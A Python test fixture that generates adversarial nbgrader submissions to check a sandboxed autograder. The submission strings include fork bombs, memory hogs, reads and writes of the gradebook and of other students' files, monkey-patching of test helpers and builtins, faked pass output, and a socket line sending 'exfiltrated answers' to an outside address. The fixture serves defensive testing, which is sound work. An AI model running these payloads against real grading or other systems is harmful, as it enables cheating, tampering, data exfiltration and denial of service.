"""The corpus of bad submissions, each built from a real release notebook.

``make_course`` creates a throw-away nbgrader course (the project's own
``grader/nbgrader_config.py``) holding a small assignment, ``drill``, written in
the course's conventions (``qN-answer`` / ``qN-test`` grade ids, hidden tests,
a helper module the hidden tests import) and releases it with nbgrader.
Every case below starts from that release notebook (or, for a correct answer,
from the release with the source's solutions filled in) and breaks it one way.

Hidden expected values are distinctive numbers (4217, -3, 2000) and every hidden
line carries a marker comment, so a leak into feedback is easy to find.
"""

from __future__ import annotations

import copy
import json
import os
import re
import shutil
import signal
import subprocess
import sys
import time
from collections.abc import Callable
from contextlib import contextmanager
from dataclasses import dataclass, field
from pathlib import Path

import nbformat
import pytest

ROOT = Path(__file__).resolve().parents[2]
ASSIGNMENT = "drill"
NOTEBOOK = "drill.ipynb"
TIMESTAMP = "2026-11-20 10:00:00.000000 UTC"
HIDDEN_MARKERS = ["hidden-check-q1", "hidden-check-q2", "hidden-check-q3"]
HIDDEN_VALUES = ["4217", "-3]) == -3", "== 2000"]  # "4217": only where q1 is wrong
FULL = 4.0  # autograded points: q1 1, q2 2, q3 1 (q4 is a written answer)

LIMITS = {
    "STOREOPS_CELL_TIMEOUT": "5",
    "STOREOPS_NOTEBOOK_TIMEOUT": "30",
    "STOREOPS_MEMORY_MB": "512",
    "STOREOPS_MAX_PROCS": "32",
    "STOREOPS_MAX_OUTPUT_MB": "2",
    "STOREOPS_MAX_FILE_MB": "16",
    "STOREOPS_CPU_SECONDS": "60",
    "STOREOPS_PROTECTED_MODULES": "drill_helpers,storeops.grading.keys",
}


@contextmanager
def limits_env(**overrides: str | None):
    """The test limits in os.environ (inherited by grading workers), restored afterwards.
    An override of None removes the variable (the course default applies)."""
    wanted = {**LIMITS, **overrides}
    saved = {k: os.environ.get(k) for k in wanted}
    try:
        for k, v in wanted.items():
            if v is None:
                os.environ.pop(k, None)
            else:
                os.environ[k] = v
        yield wanted
    finally:
        for k, v in saved.items():
            if v is None:
                os.environ.pop(k, None)
            else:
                os.environ[k] = v


HELPER = '''"""Checks the hidden tests of the drill call (copied into every autograded folder)."""


def check_total(value, expected):
    assert value == expected, "q1: total is not the sum of data"
'''


def _cell(kind: str, source: str, gid: str, **nbg) -> nbformat.NotebookNode:
    meta = {
        "grade": False,
        "grade_id": gid,
        "locked": False,
        "schema_version": 3,
        "solution": False,
        "task": False,
    }
    meta.update(nbg)
    make = nbformat.v4.new_code_cell if kind == "code" else nbformat.v4.new_markdown_cell
    return make(source, metadata={"nbgrader": meta})


def source_notebook() -> nbformat.NotebookNode:
    nb = nbformat.v4.new_notebook()
    nb.metadata["kernelspec"] = {
        "name": "python3",
        "display_name": "Python 3",
        "language": "python",
    }
    nb.cells = [
        _cell("markdown", "# Drill\nAnswer each question in its cell.", "intro", locked=True),
        _cell("code", "data = [1000, 2000, 1217]", "setup", locked=True),
        _cell(
            "code",
            "### BEGIN SOLUTION\ntotal = sum(data)\n### END SOLUTION\ntotal",
            "q1-answer",
            solution=True,
        ),
        _cell(
            "code",
            'assert "total" in globals(), "q1: define `total`"\n'
            "### BEGIN HIDDEN TESTS\n"
            "from drill_helpers import check_total  # hidden-check-q1\n"
            "check_total(total, 4217)  # hidden-check-q1\n"
            "### END HIDDEN TESTS",
            "q1-test",
            grade=True,
            locked=True,
            points=1,
        ),
        _cell(
            "code",
            "def largest(xs):\n    ### BEGIN SOLUTION\n    return max(xs)\n    ### END SOLUTION",
            "q2-answer",
            solution=True,
        ),
        _cell(
            "code",
            'assert largest([1, 2]) == 2, "q2: largest([1, 2]) should be 2"\n'
            "### BEGIN HIDDEN TESTS\n"
            'assert largest([-7, -3, -5]) == -3, "q2: wrong for negative numbers"  # hidden-check-q2\n'
            'assert largest(data) == 2000, "q2: wrong on data"  # hidden-check-q2\n'
            "### END HIDDEN TESTS",
            "q2-test",
            grade=True,
            locked=True,
            points=2,
        ),
        _cell(
            "code",
            "### BEGIN SOLUTION\nn_items = len(data)\n### END SOLUTION",
            "q3-answer",
            solution=True,
        ),
        _cell(
            "code",
            "### BEGIN HIDDEN TESTS\n"
            'assert n_items == 3, "q3: count the items"  # hidden-check-q3\n'
            "### END HIDDEN TESTS",
            "q3-test",
            grade=True,
            locked=True,
            points=1,
        ),
        _cell("markdown", "YOUR ANSWER HERE", "q4-answer", grade=True, solution=True, points=1),
    ]
    return nb


def make_course(root: Path) -> Path:
    """A course folder using the project's nbgrader_config.py, with ``drill`` released."""
    course = root / "course"
    course.mkdir(parents=True)
    shutil.copy(ROOT / "grader" / "nbgrader_config.py", course / "nbgrader_config.py")
    settings = json.loads((ROOT / "grader" / "course.json").read_text())
    settings.update(source_directory="source", per_student_stores=False, course_id="adversarial")
    (course / "course.json").write_text(json.dumps(settings, indent=2))
    src = course / "source" / ASSIGNMENT
    src.mkdir(parents=True)
    nbformat.write(source_notebook(), src / NOTEBOOK)
    (src / "drill_helpers.py").write_text(HELPER)
    return course


def release(course: Path) -> Path:
    from storeops.grading.course import Course

    result = Course(course).api().generate_assignment(ASSIGNMENT, force=True, create=True)
    assert result.get("success"), result.get("error") or result.get("log")
    return course / "release" / ASSIGNMENT


# --- building submissions -------------------------------------------------------------
def _gid(cell) -> str | None:
    return cell.get("metadata", {}).get("nbgrader", {}).get("grade_id")


def _strip_solution(text: str) -> str:
    lines = []
    for line in text.splitlines():
        if "BEGIN SOLUTION" in line or "END SOLUTION" in line:
            continue
        lines.append(line)
    return "\n".join(lines)


def solved(release_nb: dict, source_nb: dict) -> dict:
    """The release notebook with the source's solutions typed in: a correct student."""
    answers = {
        _gid(c): _strip_solution(
            c["source"] if isinstance(c["source"], str) else "".join(c["source"])
        )
        for c in source_nb["cells"]
        if c.get("metadata", {}).get("nbgrader", {}).get("solution")
    }
    nb = copy.deepcopy(release_nb)
    for cell in nb["cells"]:
        gid = _gid(cell)
        if gid in answers and cell["cell_type"] == "code":
            cell["source"] = answers[gid]
        elif gid in answers:
            cell["source"] = "I would run the campaign in November."
    return nb


def set_answer(nb: dict, gid: str, code: str) -> dict:
    for cell in nb["cells"]:
        if _gid(cell) == gid:
            cell["source"] = code
            return nb
    raise KeyError(gid)


def index_of(nb: dict, gid: str) -> int:
    return next(i for i, c in enumerate(nb["cells"]) if _gid(c) == gid)


@dataclass
class Case:
    """One student of the adversarial class and what a fair outcome is."""

    student: str
    build: Callable[[Path, dict, dict], None]  # (folder, correct nb, release nb)
    score: tuple[float, float] | None  # allowed autograded score range; None: no grade
    problems: tuple[str, ...] = ()  # preflight problem codes that must be reported
    events: tuple[str, ...] = ()  # sandbox event kinds that must be reported
    note: str = ""
    zero_cells: tuple[str, ...] = field(default=())  # test cells that must score 0


# A class whose grading takes long enough to be killed half-way: every student answers
# right, and q3 sleeps a second in each kernel.
SLOW_Q3 = "import time\ntime.sleep(1)\nn_items = len(data)"
_GRADE_CLASS = (
    "import sys\n"
    "from pathlib import Path\n"
    "from storeops.grading.course import Course\n"
    "from storeops.grading.pipeline import grade_class\n"
    "if __name__ == '__main__':\n"
    f"    grade_class(Course(Path(sys.argv[1])), {ASSIGNMENT!r}, workers=2, progress=False,"
    " report=False)\n"
)


def feedback_count(course: Path) -> int:
    return len(list((course / "feedback").glob(f"*/{ASSIGNMENT}/*.html")))


def submit_slow_class(course: Path, n: int) -> None:
    """``n`` students submit the right answers, with the slow q3 (the course is released)."""
    rel = json.loads((course / "release" / ASSIGNMENT / NOTEBOOK).read_text())
    src = json.loads((course / "source" / ASSIGNMENT / NOTEBOOK).read_text())
    good = set_answer(solved(rel, src), "q3-answer", SLOW_Q3)
    for i in range(n):
        folder = course / "submitted" / f"s{i:02d}" / ASSIGNMENT
        write_nb(folder, copy.deepcopy(good))
        (folder / "timestamp.txt").write_text(TIMESTAMP)


def grade_and_kill_half_way(course: Path, n: int) -> int:
    """Grade the class in a process group of its own and SIGKILL the group (the run and its
    workers, mid-flight) once half the class has feedback; the feedback count then."""
    script = course.parent / "run.py"
    script.write_text(_GRADE_CLASS)
    with limits_env():
        proc = subprocess.Popen(
            [sys.executable, str(script), str(course)],
            start_new_session=True,
            stdout=subprocess.DEVNULL,
            stderr=subprocess.DEVNULL,
        )
    deadline = time.monotonic() + 300
    while feedback_count(course) < n // 2 and proc.poll() is None:
        assert time.monotonic() < deadline, "the first run never got half-way"
        time.sleep(0.1)
    killed_at = feedback_count(course)
    try:
        os.killpg(proc.pid, signal.SIGKILL)
    except ProcessLookupError:
        pass  # it ended first: the tests' killed-half-way check says so
    proc.wait()
    return killed_at


def write_nb(folder: Path, nb: dict, name: str = NOTEBOOK) -> None:
    folder.mkdir(parents=True, exist_ok=True)
    (folder / name).write_text(json.dumps(nb, indent=1, ensure_ascii=False))


def _answer(gid: str, code: str):
    def build(folder: Path, good: dict, rel: dict) -> None:
        write_nb(folder, set_answer(copy.deepcopy(good), gid, code))

    return build


def _good(folder: Path, good: dict, rel: dict) -> None:
    write_nb(folder, good)


def _blank(folder: Path, good: dict, rel: dict) -> None:
    write_nb(folder, rel)


def _delete(gids: list[str]):
    def build(folder: Path, good: dict, rel: dict) -> None:
        nb = copy.deepcopy(good)
        nb["cells"] = [c for c in nb["cells"] if _gid(c) not in gids]
        write_nb(folder, nb)

    return build


def _reorder(folder: Path, good: dict, rel: dict) -> None:
    nb = copy.deepcopy(good)
    cell = nb["cells"].pop(index_of(nb, "q3-answer"))
    nb["cells"].append(cell)  # the answer now comes after its test
    write_nb(folder, nb)


def _duplicate(folder: Path, good: dict, rel: dict) -> None:
    nb = copy.deepcopy(good)
    i = index_of(nb, "q1-answer")
    wrong = copy.deepcopy(nb["cells"][i])
    wrong["source"] = "total = 0"
    test = copy.deepcopy(nb["cells"][i + 1])
    nb["cells"][i + 2 : i + 2] = [wrong, test]  # a copied answer+test pair with a wrong answer
    write_nb(folder, nb)


def _edited_test(folder: Path, good: dict, rel: dict) -> None:
    nb = set_answer(copy.deepcopy(good), "q1-answer", "total = 0")
    set_answer(nb, "q1-test", "pass  # the student replaced the test")
    write_nb(folder, nb)


def _edited_test_as_markdown(folder: Path, good: dict, rel: dict) -> None:
    nb = set_answer(copy.deepcopy(good), "q3-answer", "n_items = 99")
    nb["cells"][index_of(nb, "q3-test")]["cell_type"] = "markdown"
    nb["cells"][index_of(nb, "q3-test")].pop("outputs", None)
    nb["cells"][index_of(nb, "q3-test")].pop("execution_count", None)
    write_nb(folder, nb)


def _raw(content: bytes):
    def build(folder: Path, good: dict, rel: dict) -> None:
        folder.mkdir(parents=True, exist_ok=True)
        (folder / NOTEBOOK).write_bytes(content)

    return build


def _truncated(folder: Path, good: dict, rel: dict) -> None:
    text = json.dumps(good, indent=1)
    _raw(text[: len(text) // 2].encode())(folder, good, rel)


def _v3(folder: Path, good: dict, rel: dict) -> None:
    nb = nbformat.reads(json.dumps(good), as_version=4)
    v3 = nbformat.convert(nb, 3)
    folder.mkdir(parents=True, exist_ok=True)
    (folder / NOTEBOOK).write_text(nbformat.writes(v3, version=3))


def _missing(folder: Path, good: dict, rel: dict) -> None:
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "my answers.txt").write_text("I could not open the notebook.\n")


def _extra(folder: Path, good: dict, rel: dict) -> None:
    write_nb(folder, good)
    (folder / "notes.txt").write_text("scratch\n")
    write_nb(folder, good, "drill (1).ipynb")
    (folder / "data").mkdir()
    (folder / "data" / "mine.csv").write_text("a,b\n1,2\n")


def _non_ascii(folder: Path, good: dict, rel: dict) -> None:
    write_nb(folder, good)
    write_nb(folder, good, "drill-副本.ipynb")
    (folder / "résumé notes é.txt").write_text("ünïcödé\n")


PROBE = r"""
import glob, os
def probe(path, write=False):
    try:
        if write:
            with open(path, "ab") as fh:
                fh.write(b"tampered")
        elif os.path.isdir(path):
            os.listdir(path)
        else:
            open(path, "rb").read(1)
        print("ALLOWED", "write" if write else "read", path)
    except OSError as exc:
        print("DENIED", "write" if write else "read", path, type(exc).__name__)
course = os.path.abspath("../../..")
"""


def _snoop(folder: Path, good: dict, rel: dict) -> None:
    code = PROBE + (
        'probe(course + "/gradebook.db")\n'
        'probe(course + "/submitted")\n'
        'probe(course + "/submitted/good-1/drill/drill.ipynb")\n'
        'probe(course + "/autograded")\n'
        'probe(course + "/autograded/good-1/drill/drill.ipynb")\n'
        'probe(course + "/feedback/good-1/drill/drill.html")\n'
        'probe(course + "/source/drill/drill.ipynb")\n'
        'probe(os.path.expanduser("~root/.bash_history"))\n'
        "total = sum(data)"
    )
    write_nb(folder, set_answer(copy.deepcopy(good), "q1-answer", code))


def _vandal(folder: Path, good: dict, rel: dict) -> None:
    code = PROBE + (
        'probe(course + "/gradebook.db", write=True)\n'
        'probe(course + "/submitted/good-1/drill/drill.ipynb", write=True)\n'
        'probe(course + "/source/drill/drill_helpers.py", write=True)\n'
        'probe(course + "/release/drill/drill.ipynb", write=True)\n'
        'probe(course + "/nbgrader_config.py", write=True)\n'
        "total = sum(data)"
    )
    write_nb(folder, set_answer(copy.deepcopy(good), "q1-answer", code))


WRONG = {"q1-answer": "total = 0", "q3-answer": "n_items = 0"}


def _wrong_plus(gid: str, code: str):
    """Wrong answers to q1 and q3 plus ``code`` in ``gid``: only cheating could pass."""

    def build(folder: Path, good: dict, rel: dict) -> None:
        nb = copy.deepcopy(good)
        for g, c in WRONG.items():
            set_answer(nb, g, c)
        cell = nb["cells"][index_of(nb, gid)]
        cell["source"] = (
            (cell["source"] if isinstance(cell["source"], str) else "".join(cell["source"]))
            + "\n"
            + code
        )
        write_nb(folder, nb)

    return build


PATCH_HELPER = "import drill_helpers\ndrill_helpers.check_total = lambda value: None\n"
PATCH_BUILTINS = (
    "import builtins\n"
    "builtins.abs = lambda x: 0\n"
    "builtins.AssertionError = type('AssertionError', (Exception,), {})\n"
)
BREAK_BUILTINS = "import builtins\nbuiltins.len = lambda x: 3\n"
SWALLOW = "get_ipython().set_custom_exc((BaseException,), lambda *a, **k: None)\n"
PATCH_SHELL = (
    "ip = get_ipython()\n"
    "_real = ip.run_cell\n"
    "def _quiet(*a, **k):\n"
    "    r = _real(*a, **k)\n"
    "    r.error_in_exec = None\n"
    "    return r\n"
    "ip.run_cell = _quiet\n"
)
FAKE_PASS = "print('All tests passed! 4/4 points')\n"
NETWORK = r"""
import socket, time
results = []
for host, port in [("127.0.0.1", __PORT__), ("192.0.2.1", 80)]:
    s = socket.socket(); s.settimeout(1)
    t0 = time.monotonic()
    try:
        s.connect((host, port)); results.append(f"CONNECTED {host}:{port}")
        s.sendall(b"exfiltrated answers")
    except OSError as exc:
        results.append(f"NO-NETWORK {host}:{port} {type(exc).__name__} {time.monotonic() - t0:.2f}s")
    finally:
        s.close()
print("\n".join(results))
total = sum(data)
"""


def cases(loopback_port: int = 9) -> list[Case]:
    """The whole adversarial class (student id -> bad submission -> fair outcome)."""
    return [
        Case("good-1", _good, (FULL, FULL)),
        Case("good-2", _good, (FULL, FULL)),
        Case("good-3", _good, (FULL, FULL)),
        Case("blank", _blank, (0, 0)),
        Case(
            "loop",
            _answer("q1-answer", "while True:\n    pass"),
            (3, 3),
            events=("cell_timeout",),
            zero_cells=("q1-test",),
            note="infinite loop: the cell times out, later cells still run",
        ),
        Case(
            "loop-stubborn",
            _answer(
                "q1-answer",
                "import time\nwhile True:\n    try:\n        time.sleep(0.2)\n"
                "    except KeyboardInterrupt:\n        pass",
            ),
            (0, 0),
            events=("kernel_died",),
            note="ignores the interrupt: the notebook wall time kills the kernel",
        ),
        Case(
            "memory",
            _answer("q1-answer", "hog = []\nwhile True:\n    hog.append(bytearray(10**7))"),
            (0, 3),
            zero_cells=("q1-test",),
            note="allocates until RLIMIT_AS: MemoryError (or the kernel dies)",
        ),
        Case(
            "memory-numpy",
            _answer("q1-answer", "import numpy\nhog = numpy.ones(10**10)\ntotal = sum(data)"),
            (3, 3),
            zero_cells=("q1-test",),
        ),
        Case(
            "fork-flood",
            _answer(
                "q2-answer",
                "import os, time\nfor _ in range(300):\n    if os.fork() == 0:\n"
                "        time.sleep(120)\n        os._exit(0)\n"
                "def largest(xs):\n    return max(xs)",
            ),
            (2, 2),
            zero_cells=("q2-test",),
            note="forks until RLIMIT_NPROC: BlockingIOError; children reaped",
        ),
        Case(
            "subprocess-flood",
            _answer(
                "q3-answer",
                "import subprocess\nprocs = [subprocess.Popen(['sleep', '120']) for _ in range(300)]\n"
                "n_items = len(data)",
            ),
            (3, 3),
            zero_cells=("q3-test",),
        ),
        Case(
            "exit",
            _answer("q2-answer", "import os\nos._exit(3)"),
            (1, 1),
            events=("kernel_died",),
            note="os._exit: tests before the crash keep their points",
        ),
        Case(
            "segfault",
            _answer("q3-answer", "import ctypes\nctypes.string_at(0)"),
            (3, 3),
            events=("kernel_died",),
        ),
        Case(
            "flood-output",
            _answer(
                "q1-answer", "for _ in range(100):\n    print('x' * 1_000_000)\ntotal = sum(data)"
            ),
            (3, FULL),
            note="100 MB of output: kept up to the limit (or the kernel runs out of memory "
            "encoding it); graded normally",
        ),
        Case("deleted-answer", _delete(["q2-answer"]), (2, 2), problems=("deleted-answer-cell",)),
        Case(
            "deleted-test",
            _delete(["q1-test"]),
            (3, 3),
            problems=("deleted-test-cell",),
            zero_cells=("q1-test",),
        ),
        Case("reordered", _reorder, (3, 3), problems=("reordered-cells",)),
        Case("duplicated", _duplicate, None, problems=("duplicate-grade-id",)),
        Case(
            "edited-test",
            _edited_test,
            (3, 3),
            problems=("edited-test-cell",),
            zero_cells=("q1-test",),
            note="nbgrader restores the original test",
        ),
        Case(
            "test-to-markdown",
            _edited_test_as_markdown,
            (3, 3),
            problems=("edited-test-cell",),
            zero_cells=("q3-test",),
        ),
        Case("invalid-json", _truncated, None, problems=("invalid-json",)),
        Case("empty-file", _raw(b""), None, problems=("empty-file",)),
        Case(
            "binary-file",
            _raw(b"\x89PNG\r\n\x1a\n\x00\x00garbage"),
            None,
            problems=("invalid-json",),
        ),
        Case("nbformat-v3", _v3, (0, FULL), problems=("old-nbformat",)),
        Case(
            "missing-notebook",
            _missing,
            None,
            problems=("no-notebook", "missing-notebook", "extra-file"),
        ),
        Case("extra-files", _extra, (FULL, FULL), problems=("extra-file",)),
        Case("non-ascii-names", _non_ascii, (FULL, FULL), problems=("unsafe-name",)),
        Case("snoop", _snoop, (FULL, FULL), problems=("suspicious-code",)),
        Case("vandal", _vandal, (FULL, FULL), problems=("suspicious-code",)),
        Case(
            "patch-helper",
            _wrong_plus("q1-answer", PATCH_HELPER),
            (2, 2),
            problems=("suspicious-code",),
            events=("tampering",),
            zero_cells=("q1-test", "q3-test"),
        ),
        Case(
            "patch-builtins",
            _wrong_plus("q1-answer", PATCH_BUILTINS),
            (2, 2),
            problems=("suspicious-code",),
            events=("tampering",),
            zero_cells=("q1-test", "q3-test"),
        ),
        Case(
            "break-builtins",
            _wrong_plus("q1-answer", BREAK_BUILTINS),
            (0, 2),
            problems=("suspicious-code",),
            zero_cells=("q1-test", "q3-test"),
            note="breaks the kernel itself: what ran before counts, the rest is zero",
        ),
        Case(
            "swallow-errors",
            _wrong_plus("q1-answer", SWALLOW),
            (2, 2),
            problems=("suspicious-code",),
            zero_cells=("q1-test", "q3-test"),
        ),
        Case(
            "patch-shell",
            _wrong_plus("q1-answer", PATCH_SHELL),
            (2, 2),
            events=("tampering",),
            zero_cells=("q1-test", "q3-test"),
        ),
        Case(
            "fake-pass",
            _wrong_plus("q3-answer", FAKE_PASS),
            (2, 2),
            problems=("suspicious-code",),
            zero_cells=("q1-test", "q3-test"),
        ),
        Case(
            "network",
            _answer("q1-answer", NETWORK.replace("__PORT__", str(loopback_port))),
            (FULL, FULL),
            problems=("suspicious-code",),
        ),
    ]


# students whose q1 answer is wrong: 4217 (the hidden expected value) must not reach them
WRONG_Q1 = [
    "blank",
    "loop",
    "loop-stubborn",
    "memory",
    "memory-numpy",
    "edited-test",
    "patch-helper",
    "patch-builtins",
    "break-builtins",
    "swallow-errors",
    "patch-shell",
    "fake-pass",
]


def build_class(course: Path, class_cases: list[Case]) -> None:
    """Write every case's submission into ``course/submitted/<student>/drill/``."""
    rel = json.loads((course / "release" / ASSIGNMENT / NOTEBOOK).read_text())
    src = json.loads((course / "source" / ASSIGNMENT / NOTEBOOK).read_text())
    good = solved(rel, src)
    for case in class_cases:
        folder = course / "submitted" / case.student / ASSIGNMENT
        case.build(folder, copy.deepcopy(good), copy.deepcopy(rel))
        folder.mkdir(parents=True, exist_ok=True)
        (folder / "timestamp.txt").write_text(TIMESTAMP)


def leaks(text: str) -> list[str]:
    """Hidden-test markers or expected values found in ``text``."""
    plain = re.sub(r"\x1b\[[0-9;]*[A-Za-z]", "", text)
    return [s for s in HIDDEN_MARKERS + HIDDEN_VALUES if s in plain]


def require_sandbox(course: Path) -> None:
    """Refuse to run hostile code without the sandbox (a memory hog would eat the machine)."""
    from storeops.grading.course import Course

    pre = Course(course).config().Autograde.get("autograde_preprocessors") or []
    if not any("SandboxedExecute" in str(p) for p in pre):
        pytest.fail(
            "grader/nbgrader_config.py does not enable the sandbox: apply "
            "/tmp/issue7_integration.patch (storeops.sandbox.configure(c)) first"
        )
